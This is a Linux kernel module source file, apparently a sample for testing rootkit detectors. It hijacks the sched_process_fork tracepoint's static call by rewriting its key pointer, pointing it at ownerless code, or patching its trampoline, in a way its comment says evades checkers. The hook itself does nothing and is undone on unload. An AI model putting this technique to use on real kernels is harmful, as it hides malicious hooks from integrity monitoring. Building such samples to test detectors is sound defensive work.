// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a static call leads elsewhere: its key names the module's function (how=key) or code that belongs to nobody
 * (how=nobody), or its trampoline jumps to the module while the key says nothing (how=trampoline).
 * Who: no kit that is known; hides where checkers mask static calls.
 * Changes: the call of the tracepoint sched_process_fork, which is off. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/static_call.h>

KERNEL_SYMBOL(__SCK__tp_func_sched_process_fork);
KERNEL_SYMBOL(__SCT__tp_func_sched_process_fork);
NOBODY_SYMBOLS;
VARIANT("key");

static void *original_function;
static u8 original[5];

static noinline int hooked_call(void *data)
{
	return 0;
}

static int __init start(void)
{
	static const u8 code[] = RETURNS(0);
	struct static_call_key *key = (void *)__SCK__tp_func_sched_process_fork_at;
	u8 *site = (u8 *)__SCT__tp_func_sched_process_fork_at, bytes[5];
	void *target = hooked_call;

	if (!site || (!key && !HOW("trampoline")))
		return -ENOENT;
	if (key)
		original_function = key->func;
	memcpy(original, site, 5);
	if (HOW("trampoline")) {
		branch(bytes, 0xe9, site, hooked_call);
		write_protected(site, bytes, 5);
		return 0;
	}
	if (HOW("nobody"))
		target = NOBODY_START(code, sizeof(code));
	if (!target)
		return -ENOMEM;
	write_pointer(&key->func, target);
	return 0;
}

static void __exit stop(void)
{
	struct static_call_key *key = (void *)__SCK__tp_func_sched_process_fork_at;

	if (HOW("trampoline"))
		write_protected((void *)__SCT__tp_func_sched_process_fork_at, original, 5);
	else
		write_pointer(&key->func, original_function);
	NOBODY_STOP();
}

ATTACK(start, stop);
